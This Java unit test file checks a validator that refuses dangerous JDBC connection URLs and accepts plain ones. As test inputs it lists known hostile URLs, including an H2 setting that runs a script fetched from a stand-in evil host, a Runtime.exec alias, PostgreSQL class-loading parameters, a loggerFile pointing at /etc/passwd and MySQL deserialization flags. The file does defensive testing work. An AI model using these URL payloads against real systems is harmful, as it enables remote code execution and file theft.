package dev.tandem.pull;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlRulesTests {

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
			"jdbc:h2:mem:x;init=create alias x for 'java.lang.Runtime.exec'", "jdbc:h2:mem:x;RUNSCRIPT=x.sql",
			"jdbc:h2:mem:x;AUTHENTICATOR=true", "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
			"jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
			"jdbc:postgresql://db/x?ssl=true&sslfactory=com.evil.Factory",
			"jdbc:postgresql://db/x?sslhostnameverifier=com.evil.Verifier",
			"jdbc:postgresql://db/x?authenticationPluginClassName=com.evil.Plugin",
			"jdbc:postgresql://db/x?loggerFile=/etc/passwd", "jdbc:postgresql://db/x?sslpasswordcallback=com.evil.Cb",
			"jdbc:mysql://db/x?autoDeserialize=true", "jdbc:mysql://db/x?allowLoadLocalInfile=true",
			"jdbc:postgresql://db/x?jaasApplicationName=java:comp/env/jndi" })
	void settingsThatLoadCodeOrResourcesAreRefused(String url) {
		assertThat(JdbcUrlRules.problem(url)).hasValueSatisfying(problem -> assertThat(problem)
			.containsAnyOf("could run code", "JNDI"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db.example.com:5432/sales?sslmode=require&connectTimeout=5",
			"jdbc:h2:mem:sales;DB_CLOSE_DELAY=-1;NON_KEYWORDS=VALUE", "jdbc:h2:tcp://localhost/~/sales" })
	void plainUrlsOfShippedDriversAreAccepted(String url) {
		assertThat(JdbcUrlRules.problem(url)).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:oracle:thin:@db:1521/x", "postgresql://db/x" })
	void urlsWithoutAShippedDriverAreRefusedSayingHowToAddOne(String url) {
		assertThat(JdbcUrlRules.problem(url)).hasValueSatisfying(problem -> assertThat(problem)
			.containsAnyOf("README", "a JDBC URL such as"));
	}
}
